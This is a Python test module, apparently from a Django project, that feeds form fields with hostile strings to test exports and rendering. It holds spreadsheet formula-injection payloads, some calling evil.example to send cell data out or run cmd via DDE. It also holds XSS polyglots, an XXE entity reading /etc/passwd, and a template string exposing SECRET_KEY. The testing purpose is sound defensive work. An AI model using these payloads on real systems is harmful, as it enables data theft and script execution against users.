"""Texts that do harm where a browser, a spreadsheet or a parser takes them for more than texts; and how to fill fields.

They come from the npm package big-list-of-naughty-strings and from brs-kb, which are installed for the tests alone, and
from lists of our own.
"""

from __future__ import annotations

import json
import os
import warnings
from collections.abc import Iterator
from functools import cache
from pathlib import Path

import pytest
from django.db import connection

from tests.exports.hostile import PAYLOADS
from tests.settings import SHARE

#: Where runs share the tests, each eighth text of the long lists is tried, all in `make test-long`.
_EVERY = 8 if SHARE else 1
_NAUGHTY = Path(__file__).parent / "payloads/node_modules/big-list-of-naughty-strings/blns.json"

#: What begins a formula in one program or another, and what makes it begin the cell where blanks stand before it.
_BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000=",
    "\u00a0=",
    "\ufeff=",
    "＝",
    "＋",
    "－",
    "＠",
    "|=",
    ";=",
    ",=",
)
_FORMULAS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"点此")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example/")',
    'DDE("cmd";"/C calc";"!A0")',
)
FORMULAS = tuple(f"{begin}{rest}" for begin in _BEGINNINGS for rest in _FORMULAS)

#: What would run whatever it stands in: an element, an attribute, a script, a style, an address, a comment, JSON, XML.
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\"'><img src=x onerror=alert(1)><script>alert(1)</script>",
    "'\"--></style></script><svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "\" onfocus=alert(1) autofocus x=\"",
    "' style='position:fixed;inset:0' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% csrf_token %}{{ settings.SECRET_KEY }}",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example/><input name=q autofocus onfocus=alert(1)>",
    "<div hx-get='http://evil.example/' hx-trigger=load hx-on:load=alert(1)></div>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "<scr\0ipt>alert(1)</scr\0ipt>",
)  # fmt: skip


@cache
def naughty() -> tuple[str, ...]:
    """Return the big list of naughty strings; where it is not installed, fail in CI and skip elsewhere."""
    if not _NAUGHTY.exists():
        message = "The big list of naughty strings is not here: install npm, then `make dev`."
        if os.environ.get("CI"):
            pytest.fail(message, pytrace=False)
        pytest.skip(message)
    return tuple(dict.fromkeys(json.loads(_NAUGHTY.read_text(encoding="utf-8"))))[::_EVERY]


@cache
def scripts() -> tuple[str, ...]:
    """Return the texts of brs-kb: thousands of ways to have a script run."""
    with warnings.catch_warnings():
        # It was written for an older Python.
        warnings.simplefilter("ignore")
        import brs_kb

        return tuple(dict.fromkeys(str(one["payload"]) for one in brs_kb.get_all_payloads().values()))[
            ::_EVERY
        ]


def fit(text: str) -> str:
    """Return a text as this database can hold it: PostgreSQL has no NUL, and none has half a character."""
    text = text.encode("utf-8", "replace").decode()
    return text.replace("\0", "") if connection.vendor == "postgresql" else text


def first() -> list[str]:
    """Return the texts for which it matters that nothing stands before them."""
    return list(dict.fromkeys(map(fit, (*POLYGLOTS, *FORMULAS, *PAYLOADS, *naughty()))))


def packed(limit: int, texts: tuple[str, ...]) -> Iterator[str]:
    """Yield ``texts`` as many together as ``limit`` characters hold; what is longer is left out."""
    pack = ""
    for text in map(fit, texts):
        if len(text) > limit:
            continue
        if len(pack) + len(text) + 1 > limit:
            yield pack
            pack = ""
        pack = f"{pack} {text}" if pack else text
    if pack:
        yield pack


class Texts:
    """Gives each field the next of all the texts that it can hold: first those that stand alone, then those in packs."""

    def __init__(self) -> None:
        self._fields: dict[str, Iterator[str]] = {}

    def all_for(self, limit: int) -> list[str]:
        """Return what a field of at most ``limit`` characters is to be filled with, each text once."""
        alone = [text for text in first() if 0 < len(text) <= limit]
        return list(dict.fromkeys((*alone, *packed(limit, scripts()))))

    def next(self, field: str, limit: int = 2000) -> str:
        """Return the next text for ``field``; when all have been given, the first again."""
        given = self._fields.get(field)
        text = next(given, None) if given else None
        if text is None:
            self._fields[field] = iter(self.all_for(limit))
            text = next(self._fields[field])
        return text


class Plain(Texts):
    """Gives texts that do no harm, in the same shapes: with a figure, in several lines, and words."""

    def __init__(self) -> None:
        super().__init__()
        self._number = 0

    def all_for(self, limit: int) -> list[str]:
        """Return one text."""
        self._number += 1
        return [f"无害{self._number}，不低于95%。\n第二段“{self._number}”"[:limit]]
